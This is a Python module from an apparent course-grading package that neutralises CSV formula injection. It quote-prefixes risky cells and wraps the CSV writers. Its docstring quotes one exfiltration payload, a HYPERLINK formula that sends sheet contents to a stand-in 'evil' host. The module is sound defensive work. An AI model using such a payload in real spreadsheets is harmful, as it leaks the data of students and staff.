"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Why: the CSV files mlphys writes (grade imports, manual-grading sheets, reports,
``final_grades.csv``) carry text that students control -- their names, their answers, the names
of the files they uploaded. Excel, LibreOffice and Google Sheets run a cell that starts with
``=``, ``+``, ``-`` or ``@`` (or with a tab or carriage return before one) as a formula when a TA
opens the file, so ``=HYPERLINK("http://evil/?"&A1, "click")`` in an answer would leak the sheet.
The OWASP "CSV Injection" rule is followed: such a cell gets a leading single quote (which the
spreadsheet shows as text); a value that is really a number (a negative score, ``-1.5``) stays a
number, and so does a cell of dashes only (Otter's ``--``), which calls and references nothing.

Reading back: :func:`restore` removes exactly the quote :func:`neutralise` added, so
``restore(neutralise(s)) == s`` for every string (a value that itself starts with a quote before
a trigger gets one more quote when written, so nothing is ambiguous). Every CSV writer in the
package goes through :func:`writer` / :func:`dict_writer` (a test checks that none calls
``csv.writer`` directly).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""first characters that make a spreadsheet evaluate a cell (OWASP CSV Injection)"""
QUOTE = "'"
_LEADING_BLANKS = " \t\r\n"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_DASHES = re.compile(r"-+")
"""a cell of dashes only (Otter's ``--`` status of the points row) runs nothing: kept as is"""


def _triggers(text: str) -> bool:
    """True when a spreadsheet would treat ``text`` as a formula (and it is not a number)."""
    if not text:
        return False
    stripped = text.lstrip(_LEADING_BLANKS)
    if text[0] in FORMULA_TRIGGERS or (stripped and stripped[0] in FORMULA_TRIGGERS[:4]):
        return not (_NUMBER.fullmatch(text.strip()) or _DASHES.fullmatch(text))
    return False


def needs_quote(text: str) -> bool:
    """True when :func:`neutralise` prefixes ``text``: it would run as a formula, or it starts
    with quotes in front of something that would (so that :func:`restore` stays exact)."""
    body = text.lstrip(QUOTE)
    return _triggers(body)


def neutralise(value: Any) -> Any:
    """The cell to write for ``value``: numbers and None unchanged (None as ''), strings that a
    spreadsheet would run prefixed with a single quote."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, str):
        return value
    return QUOTE + value if needs_quote(value) else value


def restore(text: str) -> str:
    """The original value of a cell written by :func:`neutralise` (other text unchanged)."""
    if text.startswith(QUOTE) and needs_quote(text[1:]):
        return text[1:]
    return text


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in row]


class SafeWriter:
    """``csv.writer`` whose rows are passed through :func:`neutralise`.

    Also why a wrapper: ``csv.writer`` quotes a field only for the characters of its own line
    terminator, so with ``lineterminator="\n"`` a carriage return inside a name or an answer is
    written bare and splits the row for every reader; such rows are written with every text
    field quoted."""

    def __init__(self, f: Any, **kwargs: Any) -> None:
        self._w = csv.writer(f, **kwargs)
        self._cr_unsafe = "\r" not in self._w.dialect.lineterminator
        self._quoted = csv.writer(f, **{**kwargs, "quoting": csv.QUOTE_NONNUMERIC})

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = neutralise_row(row)
        if self._cr_unsafe and any(isinstance(c, str) and "\r" in c for c in cells):
            return self._quoted.writerow(cells)
        return self._w.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """``csv.DictWriter`` whose values (and header) are passed through :func:`neutralise`."""

    def __init__(self, f: Any, fieldnames: Sequence[str], **kwargs: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._ignore_extra = kwargs.pop("extrasaction", "raise") == "ignore"
        self._restval = kwargs.pop("restval", "")
        self._rows = SafeWriter(f, **kwargs)

    def writeheader(self) -> Any:
        return self._rows.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> Any:
        extra = set(row) - set(self.fieldnames)
        if extra and not self._ignore_extra:
            raise ValueError(f"dict contains fields not in fieldnames: {sorted(extra)}")
        return self._rows.writerow([row.get(k, self._restval) for k in self.fieldnames])

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: Any, **kwargs: Any) -> SafeWriter:
    """The package's only way to get a CSV row writer (same arguments as ``csv.writer``)."""
    return SafeWriter(f, **kwargs)


def dict_writer(f: Any, fieldnames: Sequence[str], **kwargs: Any) -> SafeDictWriter:
    """The package's only way to get a CSV dict writer (same arguments as ``csv.DictWriter``)."""
    return SafeDictWriter(f, fieldnames, **kwargs)


def restore_row(row: Iterable[str]) -> list[str]:
    return [restore(c) for c in row]
